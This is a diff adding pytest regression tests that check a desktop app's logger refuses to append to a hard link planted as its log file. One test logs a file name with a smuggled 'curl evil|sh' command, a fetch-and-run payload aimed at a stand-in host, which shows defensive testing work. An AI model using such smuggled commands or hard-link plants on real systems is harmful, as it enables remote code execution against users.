@@ -9,6 +9,7 @@ hard link names) byte for byte as it was.
 from __future__ import annotations
 
 import io
+import logging
 import os
 import resource
 import signal
@@ -25,6 +26,8 @@ import docx
 import pytest
 from docx_packages import package, wp, wr
 from test_attacks_fresh import REPO, SAMPLE_JSON, digests, refused_in_one_line, run_cli, sample_project, succeeded
+
+from desktop_app.logging_setup import setup_logging, shutdown_logging
 
 # -- files planted where SQLite keeps its side files -------------------------------------------------------------
 
@@ -338,3 +341,32 @@ def test_a_journal_far_larger_than_its_project_is_refused_unread_and_both_stay(t
         assert journal.name in message and "journal" in message
     assert digests(project) == before
     assert _head_and_size(journal) == journal_before
+
+
+# -- the log file, hard-linked ----------------------------------------------------------------------------------------
+
+def test_a_hard_link_planted_as_the_log_file_is_never_appended_to(tmp_path: Path) -> None:
+    """A link planted as the log file was refused (round 4), but a hard link is a regular file: the window
+    appended its log lines, quoting names others chose, to the file it is a second name of (a shell start-up
+    file, say)."""
+    data = tmp_path / "data"
+    (data / "logs").mkdir(parents=True)
+    victim = tmp_path / "victim.sh"
+    victim.write_text("echo hello\n", encoding="utf-8")
+    os.link(victim, data / "logs" / "pressdesk.log")
+    setup_logging(data)
+    try:
+        logging.getLogger("desktop_app.test").warning("imported /tmp/a;curl evil|sh;.docx")
+    finally:
+        shutdown_logging()
+    assert victim.read_text(encoding="utf-8") == "echo hello\n"
+
+
+def test_the_log_file_of_its_own_is_still_written(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    path = setup_logging(data)
+    try:
+        logging.getLogger("desktop_app.test").warning("a line of its own")
+    finally:
+        shutdown_logging()
+    assert "a line of its own" in path.read_text(encoding="utf-8")
